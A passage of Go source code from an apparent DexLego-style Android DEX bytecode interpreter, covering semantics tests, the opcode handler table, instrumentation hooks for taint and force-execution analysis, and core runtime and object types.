		t.Run(fmt.Sprintf("%s_%d_%d", tt.op, tt.a, tt.b), func(t *testing.T) {
			got, err := evalBinop(t, tt.op, tt.a, tt.b)
			if err != nil {
				t.Fatal(err)
			}
			if got != tt.want {
				t.Errorf("%s(%d, %d) = %d, want %d", tt.op, tt.a, tt.b, got, tt.want)
			}
		})
	}
}

func TestDivRemByZeroThrow(t *testing.T) {
	for _, op := range []bytecode.Opcode{bytecode.OpDivInt, bytecode.OpRemInt} {
		_, err := evalBinop(t, op, 5, 0)
		var thrown *art.ThrownError
		if !errors.As(err, &thrown) ||
			thrown.Obj.Class.Descriptor != "Ljava/lang/ArithmeticException;" {
			t.Errorf("%s by zero: got %v", op, err)
		}
	}
}

func TestUnopSemantics(t *testing.T) {
	p := dexgen.New()
	cls := p.Class("Lsem/U;", "")
	cls.Static("neg", "I", []string{"I"}, func(a *dexgen.Asm) {
		a.Unop(bytecode.OpNegInt, 0, a.P(0))
		a.Return(0)
	})
	cls.Static("not", "I", []string{"I"}, func(a *dexgen.Asm) {
		a.Unop(bytecode.OpNotInt, 0, a.P(0))
		a.Return(0)
	})
	f, err := p.Finish()
	if err != nil {
		t.Fatal(err)
	}
	rt := art.NewRuntime(art.DefaultPhone())
	if _, err := rt.LoadDex(f); err != nil {
		t.Fatal(err)
	}
	if res, _ := rt.Call("Lsem/U;", "neg", "(I)I", nil, []art.Value{art.IntVal(42)}); res.Int != -42 {
		t.Errorf("neg(42) = %d", res.Int)
	}
	if res, _ := rt.Call("Lsem/U;", "not", "(I)I", nil, []art.Value{art.IntVal(0)}); res.Int != -1 {
		t.Errorf("not(0) = %d", res.Int)
	}
}

func TestConditionalSemantics(t *testing.T) {
	ops := map[bytecode.Opcode]func(a, b int64) bool{
		bytecode.OpIfEq: func(a, b int64) bool { return a == b },
		bytecode.OpIfNe: func(a, b int64) bool { return a != b },
		bytecode.OpIfLt: func(a, b int64) bool { return a < b },
		bytecode.OpIfGe: func(a, b int64) bool { return a >= b },
		bytecode.OpIfGt: func(a, b int64) bool { return a > b },
		bytecode.OpIfLe: func(a, b int64) bool { return a <= b },
	}
	pairs := [][2]int64{{0, 0}, {1, 0}, {0, 1}, {-5, 5}, {7, 7}}
	for op, model := range ops {
		p := dexgen.New()
		p.Class("Lsem/C;", "").Static("f", "I", []string{"I", "I"}, func(a *dexgen.Asm) {
			a.If(op, a.P(0), a.P(1), "yes")
			a.Const(0, 0)
			a.Return(0)
			a.Label("yes")
			a.Const(0, 1)
			a.Return(0)
		})
		f, err := p.Finish()
		if err != nil {
			t.Fatal(err)
		}
		rt := art.NewRuntime(art.DefaultPhone())
		if _, err := rt.LoadDex(f); err != nil {
			t.Fatal(err)
		}
		for _, pr := range pairs {
			res, err := rt.Call("Lsem/C;", "f", "(II)I", nil,
				[]art.Value{art.IntVal(pr[0]), art.IntVal(pr[1])})
			if err != nil {
				t.Fatal(err)
			}
			want := int64(0)
			if model(pr[0], pr[1]) {
				want = 1
			}
			if res.Int != want {
				t.Errorf("%s(%d,%d) = %d, want %d", op, pr[0], pr[1], res.Int, want)
			}
		}
	}
}

func TestInstanceOfAndNullInvoke(t *testing.T) {
	p := dexgen.New()
	cls := p.Class("Lsem/O;", "Landroid/app/Activity;")
	cls.Ctor("Landroid/app/Activity;", nil)
	cls.Virtual("check", "I", nil, func(a *dexgen.Asm) {
		a.InstanceOf(0, a.This(), "Landroid/app/Activity;")
		a.ConstString(1, "hi")
		a.InstanceOf(2, 1, "Landroid/app/Activity;")
		// result = (this is Activity)*2 + (string is Activity)
		a.BinopLit8(bytecode.OpMulIntLit8, 0, 0, 2)
		a.Binop(bytecode.OpAddInt, 0, 0, 2)
		a.Return(0)
	})
	cls.Virtual("callNull", "V", nil, func(a *dexgen.Asm) {
		a.Const(0, 0)
		a.InvokeVirtual("Ljava/lang/String;", "length", "()I", 0)
		a.ReturnVoid()
	})
	f, err := p.Finish()
	if err != nil {
		t.Fatal(err)
	}
	rt := art.NewRuntime(art.DefaultPhone())
	if _, err := rt.LoadDex(f); err != nil {
		t.Fatal(err)
	}
	c, _ := rt.FindClass("Lsem/O;")
	obj := rt.NewInstance(c)
	res, err := rt.Call("Lsem/O;", "check", "()I", obj, nil)
	if err != nil || res.Int != 2 {
		t.Errorf("check() = %v, %v; want 2", res, err)
	}
	_, err = rt.Call("Lsem/O;", "callNull", "()V", obj, nil)
	var thrown *art.ThrownError
	if !errors.As(err, &thrown) ||
		thrown.Obj.Class.Descriptor != "Ljava/lang/NullPointerException;" {
		t.Errorf("null invoke: got %v", err)
	}
}

func TestMalformedCodeErrors(t *testing.T) {
	// Hand-build a dex whose method body references an out-of-range
	// register and one with an unknown opcode: the interpreter must return
	// infrastructure errors, never panic.
	build := func(insns []uint16, regs uint16) (*dex.File, error) {
		b := dex.NewBuilder()
		cb := b.Class("Lbad/B;", dex.AccPublic, "Ljava/lang/Object;")
		cb.DirectMethod("f", "V", nil, dex.AccPublic|dex.AccStatic, &dex.Code{
			RegistersSize: regs,
			Insns:         insns,
		})
		return b.Finish()
	}
	cases := []struct {
		name  string
		insns []uint16
		regs  uint16
	}{
		{"register out of range", []uint16{0x0112 /* const/4 v1 */, 0x000e}, 1},
		{"zero-register frame", []uint16{0x0012 /* const/4 v0 */, 0x000e}, 0},
		{"unknown opcode", []uint16{0x00ff}, 2},
		{"pc runs off the end", []uint16{0x0012}, 2}, // const/4 then nothing
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			defer func() {
				if r := recover(); r != nil {
					t.Fatalf("panicked: %v", r)
				}
			}()
			f, err := build(tc.insns, tc.regs)
			if err != nil {
				return // the builder may legitimately reject it first
			}
			rt := art.NewRuntime(art.DefaultPhone())
			if _, err := rt.LoadDex(f); err != nil {
				return
			}
			if _, err := rt.Call("Lbad/B;", "f", "()V", nil, nil); err == nil {
				t.Error("malformed code must error")
			}
		})
	}
}

func TestStackOverflowGuard(t *testing.T) {
	p := dexgen.New()
	p.Class("Lrec/R;", "").Static("inf", "V", nil, func(a *dexgen.Asm) {
		a.InvokeStatic("Lrec/R;", "inf", "()V")
		a.ReturnVoid()
	})
	f, err := p.Finish()
	if err != nil {
		t.Fatal(err)
	}
	rt := art.NewRuntime(art.DefaultPhone())
	if _, err := rt.LoadDex(f); err != nil {
		t.Fatal(err)
	}
	if _, err := rt.Call("Lrec/R;", "inf", "()V", nil, nil); !errors.Is(err, art.ErrStackOverfl) {
		t.Errorf("got %v, want ErrStackOverfl", err)
	}
}

func TestInvokeSuper(t *testing.T) {
	p := dexgen.New()
	base := p.Class("Lsup/Base;", "")
	base.Ctor("Ljava/lang/Object;", nil)
	base.Virtual("val", "I", nil, func(a *dexgen.Asm) {
		a.Const(0, 10)
		a.Return(0)
	})
	sub := p.Class("Lsup/Sub;", "Lsup/Base;")
	sub.Ctor("Lsup/Base;", nil)
	sub.Virtual("val", "I", nil, func(a *dexgen.Asm) {
		a.Const(0, 20)
		a.Return(0)
	})
	sub.Virtual("baseVal", "I", nil, func(a *dexgen.Asm) {
		a.InvokeSuper("Lsup/Base;", "val", "()I", a.This())
		a.MoveResult(0)
		a.Return(0)
	})
	f, err := p.Finish()
	if err != nil {
		t.Fatal(err)
	}
	rt := art.NewRuntime(art.DefaultPhone())
	if _, err := rt.LoadDex(f); err != nil {
		t.Fatal(err)
	}
	c, _ := rt.FindClass("Lsup/Sub;")
	obj := rt.NewInstance(c)
	if res, _ := rt.Call("Lsup/Sub;", "val", "()I", obj, nil); res.Int != 20 {
		t.Errorf("virtual dispatch = %d, want 20", res.Int)
	}
	if res, _ := rt.Call("Lsup/Sub;", "baseVal", "()I", obj, nil); res.Int != 10 {
		t.Errorf("invoke-super = %d, want 10", res.Int)
	}
}

func TestInterfaceDispatch(t *testing.T) {
	p := dexgen.New()
	iface := p.Class("Lid/Speaker;", "")
	iface.AbstractM("speak", "I", nil)
	impl := p.Class("Lid/Dog;", "", "Lid/Speaker;")
	impl.Ctor("Ljava/lang/Object;", nil)
	impl.Virtual("speak", "I", nil, func(a *dexgen.Asm) {
		a.Const(0, 7)
		a.Return(0)
	})
	caller := p.Class("Lid/Caller;", "")
	caller.Static("call", "I", []string{"Lid/Speaker;"}, func(a *dexgen.Asm) {
		a.InvokeInterface("Lid/Speaker;", "speak", "()I", a.P(0))
		a.MoveResult(0)
		a.Return(0)
	})
	f, err := p.Finish()
	if err != nil {
		t.Fatal(err)
	}
	rt := art.NewRuntime(art.DefaultPhone())
	if _, err := rt.LoadDex(f); err != nil {
		t.Fatal(err)
	}
	c, _ := rt.FindClass("Lid/Dog;")
	dog := rt.NewInstance(c)
	res, err := rt.Call("Lid/Caller;", "call", "(Lid/Speaker;)I", nil,
		[]art.Value{art.RefVal(dog)})
	if err != nil || res.Int != 7 {
		t.Errorf("interface dispatch = %v, %v", res, err)
	}
}
