package art

import (
	"dexlego/internal/bytecode"
)

// handler executes one decoded instruction. in points into the predecoded
// program (shared, immutable — never written through) or a loop-local
// fallback decode; ci is the predecoded instruction index for inline-cache
// addressing, -1 on the fallback path. Handlers advance f.pc themselves and
// return done=true with the method result for returns.
type handler func(rt *Runtime, st *execState, f *frame, in *bytecode.Inst, width, ci int) (Value, bool, error)

// handlers is the dispatch table of the interpreter: one entry per opcode
// byte, replacing the monolithic switch. A nil entry is an opcode the
// decoder can never produce or the interpreter does not implement; dispatch
// fails those with the historical "unimplemented opcode" error text.
var handlers [256]handler

func init() {
	set := func(h handler, ops ...bytecode.Opcode) {
		for _, op := range ops {
			handlers[op] = h
		}
	}
	set(hNop, bytecode.OpNop)
	set(hMove, bytecode.OpMove, bytecode.OpMoveFrom16,
		bytecode.OpMoveObject, bytecode.OpMoveObject16)
	set(hMoveResult, bytecode.OpMoveResult, bytecode.OpMoveResultObj)
	set(hMoveException, bytecode.OpMoveException)
	set(hReturnVoid, bytecode.OpReturnVoid)
	set(hReturn, bytecode.OpReturn, bytecode.OpReturnObject)
	set(hConst, bytecode.OpConst4, bytecode.OpConst16, bytecode.OpConst,
		bytecode.OpConstHigh16)
	set(hConstString, bytecode.OpConstString)
	set(hConstClass, bytecode.OpConstClass)
	set(hCheckCast, bytecode.OpCheckCast)
	set(hInstanceOf, bytecode.OpInstanceOf)
	set(hArrayLength, bytecode.OpArrayLength)
	set(hNewInstance, bytecode.OpNewInstance)
	set(hNewArray, bytecode.OpNewArray)
	set(hThrow, bytecode.OpThrow)
	set(hGoto, bytecode.OpGoto, bytecode.OpGoto16, bytecode.OpGoto32)
	set(hSwitch, bytecode.OpPackedSwitch, bytecode.OpSparseSwitch)
	set(hIf, bytecode.OpIfEq, bytecode.OpIfNe, bytecode.OpIfLt,
		bytecode.OpIfGe, bytecode.OpIfGt, bytecode.OpIfLe)
	set(hIfZ, bytecode.OpIfEqz, bytecode.OpIfNez, bytecode.OpIfLtz,
		bytecode.OpIfGez, bytecode.OpIfGtz, bytecode.OpIfLez)
	set(hAGet, bytecode.OpAGet, bytecode.OpAGetObject)
	set(hAPut, bytecode.OpAPut, bytecode.OpAPutObject)
	set(hIGet, bytecode.OpIGet, bytecode.OpIGetObject, bytecode.OpIGetBoolean)
	set(hIPut, bytecode.OpIPut, bytecode.OpIPutObject, bytecode.OpIPutBoolean)
	set(hSGet, bytecode.OpSGet, bytecode.OpSGetObject, bytecode.OpSGetBoolean)
	set(hSPut, bytecode.OpSPut, bytecode.OpSPutObject, bytecode.OpSPutBoolean)
	set(hInvoke, bytecode.OpInvokeVirtual, bytecode.OpInvokeSuper,
		bytecode.OpInvokeDirect, bytecode.OpInvokeStatic, bytecode.OpInvokeInterface,
		bytecode.OpInvokeVirtualR, bytecode.OpInvokeSuperR, bytecode.OpInvokeDirectR,
		bytecode.OpInvokeStaticR, bytecode.OpInvokeInterR)
	set(hNegInt, bytecode.OpNegInt)
	set(hNotInt, bytecode.OpNotInt)
	set(hBinop, bytecode.OpAddInt, bytecode.OpSubInt, bytecode.OpMulInt,
		bytecode.OpDivInt, bytecode.OpRemInt, bytecode.OpAndInt,
		bytecode.OpOrInt, bytecode.OpXorInt, bytecode.OpShlInt,
		bytecode.OpShrInt, bytecode.OpUshrInt)
	set(hAddLit16, bytecode.OpAddIntLit16)
	set(hLit8, bytecode.OpAddIntLit8, bytecode.OpMulIntLit8, bytecode.OpDivIntLit8,
		bytecode.OpRemIntLit8, bytecode.OpAndIntLit8, bytecode.OpOrIntLit8,
		bytecode.OpXorIntLit8, bytecode.OpShlIntLit8, bytecode.OpShrIntLit8)
	set(hRsubLit8, bytecode.OpRsubIntLit8)
}

func hNop(rt *Runtime, st *execState, f *frame, in *bytecode.Inst, width, ci int) (Value, bool, error) {
	f.pc += width
	return Value{}, false, nil
}

func hMove(rt *Runtime, st *execState, f *frame, in *bytecode.Inst, width, ci int) (Value, bool, error) {
	f.regs[in.A] = f.regs[in.B]
	f.pc += width
	return Value{}, false, nil
}

func hMoveResult(rt *Runtime, st *execState, f *frame, in *bytecode.Inst, width, ci int) (Value, bool, error) {
	f.regs[in.A] = f.result
	f.hasRes = false
	f.pc += width
	return Value{}, false, nil
}

func hMoveException(rt *Runtime, st *execState, f *frame, in *bytecode.Inst, width, ci int) (Value, bool, error) {
	if f.pending == nil {
		f.regs[in.A] = NullVal()
	} else {
		f.regs[in.A] = RefVal(f.pending)
	}
	f.pending = nil
	f.pc += width
	return Value{}, false, nil
}

func hReturnVoid(rt *Runtime, st *execState, f *frame, in *bytecode.Inst, width, ci int) (Value, bool, error) {
	return Value{Kind: KindInt}, true, nil
}

func hReturn(rt *Runtime, st *execState, f *frame, in *bytecode.Inst, width, ci int) (Value, bool, error) {
	return f.regs[in.A], true, nil
}

func hConst(rt *Runtime, st *execState, f *frame, in *bytecode.Inst, width, ci int) (Value, bool, error) {
	f.regs[in.A] = IntVal(in.Lit)
	f.pc += width
	return Value{}, false, nil
}

func hConstString(rt *Runtime, st *execState, f *frame, in *bytecode.Inst, width, ci int) (Value, bool, error) {
	f.regs[in.A] = RefVal(rt.NewString(f.method.Class.File.String(in.Index)))
	f.pc += width
	return Value{}, false, nil
}

func hConstClass(rt *Runtime, st *execState, f *frame, in *bytecode.Inst, width, ci int) (Value, bool, error) {
	desc := f.method.Class.File.TypeName(in.Index)
	cls, err := rt.FindClass(desc)
	if err != nil {
		return Value{}, false, rt.Throw("Ljava/lang/ClassNotFoundException;", desc)
	}
	f.regs[in.A] = RefVal(rt.classObject(cls))
	f.pc += width
	return Value{}, false, nil
}

func hCheckCast(rt *Runtime, st *execState, f *frame, in *bytecode.Inst, width, ci int) (Value, bool, error) {
	if err := rt.checkCast(f.regs[in.A], f.method.Class.File.TypeName(in.Index)); err != nil {
		return Value{}, false, err
	}
	f.pc += width
	return Value{}, false, nil
}

func hInstanceOf(rt *Runtime, st *execState, f *frame, in *bytecode.Inst, width, ci int) (Value, bool, error) {
	f.regs[in.A] = BoolVal(rt.instanceOf(f.regs[in.B], f.method.Class.File.TypeName(in.Index)))
	f.pc += width
	return Value{}, false, nil
}

func hArrayLength(rt *Runtime, st *execState, f *frame, in *bytecode.Inst, width, ci int) (Value, bool, error) {
	arr := f.regs[in.B]
	if arr.IsNull() {
		return Value{}, false, rt.Throw("Ljava/lang/NullPointerException;", "array-length on null")
	}
	f.regs[in.A] = IntVal(int64(len(arr.Ref.Elems))).WithTaint(arr.Taint)
	f.pc += width
	return Value{}, false, nil
}

func hNewInstance(rt *Runtime, st *execState, f *frame, in *bytecode.Inst, width, ci int) (Value, bool, error) {
	desc := f.method.Class.File.TypeName(in.Index)
	cls, err := rt.FindClass(desc)
	if err != nil {
		return Value{}, false, rt.Throw("Ljava/lang/ClassNotFoundException;", desc)
	}
	if err := rt.ensureInitialized(st, cls); err != nil {
		return Value{}, false, err
	}
	f.regs[in.A] = RefVal(rt.NewInstance(cls))
	f.pc += width
	return Value{}, false, nil
}

func hNewArray(rt *Runtime, st *execState, f *frame, in *bytecode.Inst, width, ci int) (Value, bool, error) {
	n := f.regs[in.B].Int
	if n < 0 {
		return Value{}, false, rt.Throw("Ljava/lang/RuntimeException;", "negative array size")
	}
	arr, err := rt.NewArray(f.method.Class.File.TypeName(in.Index), int(n))
	if err != nil {
		return Value{}, false, err
	}
	f.regs[in.A] = RefVal(arr)
	f.pc += width
	return Value{}, false, nil
}

func hThrow(rt *Runtime, st *execState, f *frame, in *bytecode.Inst, width, ci int) (Value, bool, error) {
	if f.regs[in.A].IsNull() {
		return Value{}, false, rt.Throw("Ljava/lang/NullPointerException;", "throw null")
	}
	return Value{}, false, &ThrownError{Obj: f.regs[in.A].Ref}
}

func hGoto(rt *Runtime, st *execState, f *frame, in *bytecode.Inst, width, ci int) (Value, bool, error) {
	f.pc += int(in.Off)
	return Value{}, false, nil
}

func hSwitch(rt *Runtime, st *execState, f *frame, in *bytecode.Inst, width, ci int) (Value, bool, error) {
	key := int32(f.regs[in.A].Int)
	target := width // fall through past the 31t instruction
	for i, k := range in.Keys {
		if k == key {
			target = int(in.Targets[i])
			break
		}
	}
	f.pc += target
	return Value{}, false, nil
}

func hIf(rt *Runtime, st *execState, f *frame, in *bytecode.Inst, width, ci int) (Value, bool, error) {
	taken := evalBranch(in.Op, f.regs[in.A], f.regs[in.B])
	taken = rt.branchHook(f.method, f.pc, *in, taken)
	if taken {
		f.pc += int(in.Off)
	} else {
		f.pc += width
	}
	return Value{}, false, nil
}

func hIfZ(rt *Runtime, st *execState, f *frame, in *bytecode.Inst, width, ci int) (Value, bool, error) {
	// The z-form opcodes mirror the two-register forms shifted by 6.
	taken := evalBranch(in.Op-6, f.regs[in.A], IntVal(0))
	taken = rt.branchHook(f.method, f.pc, *in, taken)
	if taken {
		f.pc += int(in.Off)
	} else {
		f.pc += width
	}
	return Value{}, false, nil
}

func hAGet(rt *Runtime, st *execState, f *frame, in *bytecode.Inst, width, ci int) (Value, bool, error) {
	v, err := rt.arrayGet(f.regs[in.B], f.regs[in.C])
	if err != nil {
		return Value{}, false, err
	}
	f.regs[in.A] = v
	f.pc += width
	return Value{}, false, nil
}

func hAPut(rt *Runtime, st *execState, f *frame, in *bytecode.Inst, width, ci int) (Value, bool, error) {
	if err := rt.arrayPut(f.regs[in.B], f.regs[in.C], f.regs[in.A]); err != nil {
		return Value{}, false, err
	}
	f.pc += width
	return Value{}, false, nil
}

// fieldName resolves the instance-field name of a 22c field instruction
// through the site's inline cache.
func fieldName(f *frame, in *bytecode.Inst, ci int) string {
	if site := f.icAt(ci); site != nil {
		if site.valid && site.index == in.Index && site.fref.Name != "" {
			return site.fref.Name
		}
		ref := f.method.Class.File.FieldAt(in.Index)
		*site = icSite{valid: true, index: in.Index, fref: ref}
		return ref.Name
	}
	return f.method.Class.File.FieldAt(in.Index).Name
}

func hIGet(rt *Runtime, st *execState, f *frame, in *bytecode.Inst, width, ci int) (Value, bool, error) {
	obj := f.regs[in.B]
	if obj.IsNull() {
		return Value{}, false, rt.Throw("Ljava/lang/NullPointerException;",
			"iget on null in "+f.method.Key())
	}
	f.regs[in.A] = obj.Ref.Field(fieldName(f, in, ci))
	f.pc += width
	return Value{}, false, nil
}

func hIPut(rt *Runtime, st *execState, f *frame, in *bytecode.Inst, width, ci int) (Value, bool, error) {
	obj := f.regs[in.B]
	if obj.IsNull() {
		return Value{}, false, rt.Throw("Ljava/lang/NullPointerException;",
			"iput on null in "+f.method.Key())
	}
	obj.Ref.SetField(fieldName(f, in, ci), f.regs[in.A])
	f.pc += width
	return Value{}, false, nil
}

func hSGet(rt *Runtime, st *execState, f *frame, in *bytecode.Inst, width, ci int) (Value, bool, error) {
	v, err := rt.staticGet(st, f.method, in, f.icAt(ci))
	if err != nil {
		return Value{}, false, err
	}
	f.regs[in.A] = v
	f.pc += width
	return Value{}, false, nil
}

func hSPut(rt *Runtime, st *execState, f *frame, in *bytecode.Inst, width, ci int) (Value, bool, error) {
	if err := rt.staticPut(st, f.method, in, f.icAt(ci), f.regs[in.A]); err != nil {
		return Value{}, false, err
	}
	f.pc += width
	return Value{}, false, nil
}

func hInvoke(rt *Runtime, st *execState, f *frame, in *bytecode.Inst, width, ci int) (Value, bool, error) {
	if err := rt.doInvoke(st, f, in, ci); err != nil {
		return Value{}, false, err
	}
	f.pc += width
	return Value{}, false, nil
}

func hNegInt(rt *Runtime, st *execState, f *frame, in *bytecode.Inst, width, ci int) (Value, bool, error) {
	f.regs[in.A] = IntVal(int64(-int32(f.regs[in.B].Int))).WithTaint(f.regs[in.B].Taint)
	f.pc += width
	return Value{}, false, nil
}

func hNotInt(rt *Runtime, st *execState, f *frame, in *bytecode.Inst, width, ci int) (Value, bool, error) {
	f.regs[in.A] = IntVal(int64(^int32(f.regs[in.B].Int))).WithTaint(f.regs[in.B].Taint)
	f.pc += width
	return Value{}, false, nil
}

func hBinop(rt *Runtime, st *execState, f *frame, in *bytecode.Inst, width, ci int) (Value, bool, error) {
	r, err := rt.binop(in.Op, f.regs[in.B], f.regs[in.C])
	if err != nil {
		return Value{}, false, err
	}
	f.regs[in.A] = r
	f.pc += width
	return Value{}, false, nil
}

func hAddLit16(rt *Runtime, st *execState, f *frame, in *bytecode.Inst, width, ci int) (Value, bool, error) {
	r, err := rt.binop(bytecode.OpAddInt, f.regs[in.B], IntVal(in.Lit))
	if err != nil {
		return Value{}, false, err
	}
	f.regs[in.A] = r
	f.pc += width
	return Value{}, false, nil
}

func hLit8(rt *Runtime, st *execState, f *frame, in *bytecode.Inst, width, ci int) (Value, bool, error) {
	r, err := rt.binop(lit8Base(in.Op), f.regs[in.B], IntVal(in.Lit))
	if err != nil {
		return Value{}, false, err
	}
	f.regs[in.A] = r
	f.pc += width
	return Value{}, false, nil
}

func hRsubLit8(rt *Runtime, st *execState, f *frame, in *bytecode.Inst, width, ci int) (Value, bool, error) {
	r, err := rt.binop(bytecode.OpSubInt, IntVal(in.Lit), f.regs[in.B])
	if err != nil {
		return Value{}, false, err
	}
	f.regs[in.A] = r
	f.pc += width
	return Value{}, false, nil
}
