package art

import (
	"dexlego/internal/apimodel"
	"dexlego/internal/bytecode"
	"dexlego/internal/dex"
)

// Hooks is the instrumentation surface of the runtime. Each field is
// optional; nil hooks cost nothing. DexLego's collector, the coverage
// tracker, the force-execution engine and the dynamic taint analyses are all
// implemented as Hooks instances, mirroring the paper's modifications to
// ART's class linker and interpretation functions.
type Hooks struct {
	// ClassLoaded fires when the class linker defines a class.
	ClassLoaded func(c *Class)
	// ClassInitialized fires after <clinit> and static value initialization.
	ClassInitialized func(c *Class)
	// StaticFieldInit fires for every declared static value during class
	// initialization, before <clinit> runs.
	StaticFieldInit func(c *Class, f *Field, v Value)
	// MethodEntered fires when a bytecode method's frame is set up.
	MethodEntered func(m *Method)
	// MethodExited fires when a bytecode method returns, throws out, or is
	// abandoned.
	MethodExited func(m *Method)
	// Instruction fires before each instruction executes. insns is the live
	// instruction array — self-modified code is visible here, which is what
	// makes instruction-level JIT collection possible. in is the decoded
	// instruction about to execute (shared with the predecoded stream, so
	// hooks must Clone before mutating), or nil when decoding failed at pc.
	// Hooks must not write into insns; live-code mutation goes through
	// Env.TamperMethod so the predecode cache is invalidated.
	Instruction func(m *Method, pc int, insns []uint16, in *bytecode.Inst)
	// Branch fires for each conditional branch with the evaluated outcome;
	// returning override=true forces newTaken instead (force execution).
	Branch func(m *Method, pc int, in bytecode.Inst, taken bool) (override, newTaken bool)
	// ReflectiveCall fires when Method.invoke resolves its target, exposing
	// the reflection target the paper rewrites into a direct call.
	ReflectiveCall func(caller *Method, callerPC int, target *Method)
	// DynamicDex fires when a DEX file is defined at runtime (packers,
	// DexClassLoader).
	DynamicDex func(f *dex.File, classes []*Class)
	// Unhandled fires when an exception is about to propagate out of a
	// method with no matching handler; returning true clears the exception
	// and resumes after the faulting instruction (force-execution
	// tolerance).
	Unhandled func(m *Method, pc int, ex *Object) bool
	// InjectException, when it returns a non-empty exception class
	// descriptor, makes the interpreter throw at this dex_pc instead of
	// executing the instruction. The force-execution extension uses it to
	// treat try/catch edges as forceable branches (the paper's future work
	// for its third coverage-loss category).
	InjectException func(m *Method, pc int) string
	// SinkCall fires when a framework sink API executes.
	SinkCall func(ev SinkEvent)
	// PredecodeHit fires when the interpreter binds a method to a predecoded
	// program that was already in the shared program cache (content match).
	PredecodeHit func(m *Method)
	// PredecodeInvalidate fires when a write into a method's live unit array
	// drops its predecoded stream — the self-modification points where
	// collection-tree forks originate. pc is the dex_pc at which the change
	// was observed (the tampering call site, or the executing pc when a
	// running frame detects a silent code swap); -1 when outside bytecode.
	PredecodeInvalidate func(m *Method, pc int)
	// CodeWritten fires whenever a write into a method's live unit array is
	// observed, in both predecode modes — unlike PredecodeInvalidate, which
	// only fires when a predecoded stream existed to drop. The incremental
	// reveal path uses it to mark self-modified methods uncacheable. pc is
	// the dex_pc of the observation site; -1 when outside bytecode.
	CodeWritten func(m *Method, pc int)
}

// SinkEvent records one execution of a sink API.
type SinkEvent struct {
	Sink     apimodel.SinkKind
	Method   string // sink method key
	Caller   string // bytecode caller method key ("" at top level)
	CallerPC int
	Taint    Taint // union of data-argument taints
	Args     []string
}

// Leaky reports whether tainted data reached the sink.
func (ev SinkEvent) Leaky() bool { return ev.Taint != 0 }
