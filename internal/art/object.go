package art

import "fmt"

// Object is a heap object: a class instance, string, array, or a
// native-backed framework object.
type Object struct {
	Class  *Class
	Fields map[string]Value // instance fields by name
	Elems  []Value          // array elements (nil for non-arrays)
	Str    string           // java/lang/String payload
	Data   any              // native payload (e.g. *Class, *Method, handles)
	Taint  Taint            // object-level taint (used by strings)
}

// SetField stores an instance field value.
func (o *Object) SetField(name string, v Value) {
	if o.Fields == nil {
		o.Fields = make(map[string]Value)
	}
	o.Fields[name] = v
}

// Field loads an instance field value; absent fields read as their zero
// value (null for references is indistinguishable here, which matches the
// interpreter's needs).
func (o *Object) Field(name string) Value {
	if v, ok := o.Fields[name]; ok {
		return v
	}
	return Value{Kind: KindInt}
}

// IsArray reports whether the object is an array.
func (o *Object) IsArray() bool { return o.Elems != nil }

// IsString reports whether the object is a java/lang/String.
func (o *Object) IsString() bool {
	return o.Class != nil && o.Class.Descriptor == "Ljava/lang/String;"
}

func (o *Object) String() string {
	if o == nil {
		return "null"
	}
	switch {
	case o.IsString():
		return fmt.Sprintf("%q", o.Str)
	case o.IsArray():
		return fmt.Sprintf("%s[%d]", o.Class.Descriptor, len(o.Elems))
	default:
		return fmt.Sprintf("%s@%p", o.Class.Descriptor, o)
	}
}

// Pretty renders the value for logging and sink-event capture.
func Pretty(v Value) string {
	switch v.Kind {
	case KindInt:
		return fmt.Sprintf("%d", v.Int)
	case KindRef:
		if v.Ref == nil {
			return "null"
		}
		if v.Ref.IsString() {
			return v.Ref.Str
		}
		return v.Ref.String()
	default:
		return "<uninit>"
	}
}
