package art

import (
	"errors"
	"fmt"
	"io"
	"sort"

	"dexlego/internal/apk"
	"dexlego/internal/bytecode"
	"dexlego/internal/dex"
)

// Default execution limits. Force execution routinely drives control flow
// onto infeasible paths, so runaway loops must be bounded.
const (
	DefaultMaxSteps = 4_000_000
	defaultMaxDepth = 256
)

// Sentinel runtime errors.
var (
	ErrStepBudget   = errors.New("art: step budget exhausted")
	ErrStackOverfl  = errors.New("art: interpreter stack overflow")
	ErrNoMain       = errors.New("art: manifest has no main activity")
	errNotSupported = errors.New("art: unsupported operation")
)

// ThrownError wraps an in-app exception object propagating out of the
// interpreter as a Go error.
type ThrownError struct {
	Obj *Object
}

func (e *ThrownError) Error() string {
	msg := Pretty(e.Obj.Field("message"))
	return fmt.Sprintf("art: uncaught %s: %s", e.Obj.Class.Descriptor, msg)
}

// Runtime is one application runtime instance (one "device" process).
// It is not safe for concurrent use; each experiment builds its own.
type Runtime struct {
	Device   Device
	MaxSteps int

	classes      map[string]*Class
	fwTmpl       *fwTemplate      // device framework template (see fwtemplate.go)
	fwSlab       []*Class         // lazily cloned framework classes, by template index
	fwLookup     map[string]int32 // shared immutable descriptor -> template index
	natives      map[string]NativeFunc
	hooks        []*Hooks
	methodEnter  []func(*Method)
	methodExit   []func(*Method)
	apk          *apk.APK
	loadedDexes  []*dex.File
	sinks        []SinkEvent
	views        map[int64]*Object
	viewOrder    []int64
	intentExtras map[string]string
	extFiles     map[string]*Object // external storage: path -> string object
	classObjects map[*Class]*Object
	logWriter    io.Writer
	launchTarget string
	methodArena  []Method // bulk allocation backing for newMethod

	// Interpreter acceleration state (see predecode.go, interp.go).
	predecode  bool
	progCache  *bytecode.ProgramCache
	freeFrames []*frame // bounded frame pool for the invoke hot path

	// Hot framework singletons, resolved once at clone time so the
	// per-allocation paths (NewString, classObject) skip the class lookup.
	stringClass *Class
	classClass  *Class
}

// newMethod hands out Method structs carved from bulk allocations. Linking
// declares methods in bursts, so batching turns one heap object per method
// into one per batch. Arena chunks are retained as long as any method from
// them is; reserveMethods right-sizes the next chunk when the caller knows
// the demand up front (LoadDex counts the file's methods before linking).
func (rt *Runtime) newMethod() *Method {
	if len(rt.methodArena) == 0 {
		rt.methodArena = make([]Method, 64)
	}
	m := &rt.methodArena[0]
	rt.methodArena = rt.methodArena[1:]
	return m
}

// reserveMethods ensures the arena can hand out n methods without growing.
func (rt *Runtime) reserveMethods(n int) {
	if len(rt.methodArena) < n {
		rt.methodArena = make([]Method, n)
	}
}

// NewRuntime creates a runtime with the framework installed.
func NewRuntime(device Device) *Runtime {
	rt := &Runtime{
		Device:       device,
		MaxSteps:     DefaultMaxSteps,
		classes:      make(map[string]*Class, 16),
		natives:      make(map[string]NativeFunc, 8),
		views:        make(map[int64]*Object),
		intentExtras: make(map[string]string),
		extFiles:     make(map[string]*Object),
		classObjects: make(map[*Class]*Object),
		predecode:    predecodeEnvDefault(),
		progCache:    defaultProgramCache,
	}
	rt.cloneFramework()
